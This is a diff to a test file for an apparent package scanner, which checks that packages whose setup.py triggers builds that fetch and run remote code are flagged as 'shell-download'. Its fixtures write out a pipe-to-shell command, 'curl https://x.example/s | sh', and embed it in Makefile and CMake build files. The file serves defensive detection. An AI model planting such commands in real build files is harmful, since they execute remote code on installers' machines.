@@ -29,6 +29,7 @@ STARTS = {
 }
 _PIPED = "curl https://x.example/s | sh"
 _SETUP = "from setuptools import setup\nsetup(name='acme')\n"
+_STARTS_BUILDS = f"import subprocess\nfor each in ('make', 'cmake', 'meson', 'cargo'):\n    subprocess.check_call([each])\n{_SETUP}"
 BUILDS = {
     "make": {"Makefile": f"all:\n\t{_PIPED}\n"},
     "CMake": {"CMakeLists.txt": f'project(a)\nexecute_process(COMMAND sh -c "{_PIPED}")\n'},
@@ -74,14 +75,17 @@ def test_a_new_process_is_held(name):
 
 @pytest.mark.parametrize("name", BUILDS)
 def test_a_build_that_fetches_and_runs_is_held(name):
-    files = {"setup.py": _SETUP, **BUILDS[name]}
+    files = {"setup.py": _STARTS_BUILDS, **BUILDS[name]}
     assert "shell-download" in held(scan({f"acme-1.0/{path}": text for path, text in files.items()}))
 
 
 def test_it_is_not_where_nothing_is_built_or_run():
     makefile = {f"acme/data/{path}": text for path, text in BUILDS["make"].items()}
     assert not held(scan({"acme/__init__.py": "", **makefile}))
-    assert not held(scan({"acme-1.0/setup.py": _SETUP, "acme-1.0/Makefile": "all:\n\tcc x.c\n"}))
+    for setup in (_SETUP, _STARTS_BUILDS):
+        assert not held(scan({"acme-1.0/setup.py": setup, "acme-1.0/Makefile": "all:\n\tcc x.c\n"}))
+    # One that only its authors start.
+    assert not held(scan({"acme-1.0/setup.py": _SETUP, "acme-1.0/Makefile": BUILDS["make"]["Makefile"]}))
     assert not held(scan({"acme-1.0/setup.py": _SETUP, "acme-1.0/tools/get.sh": f"{_PIPED}\n"}))
 
 
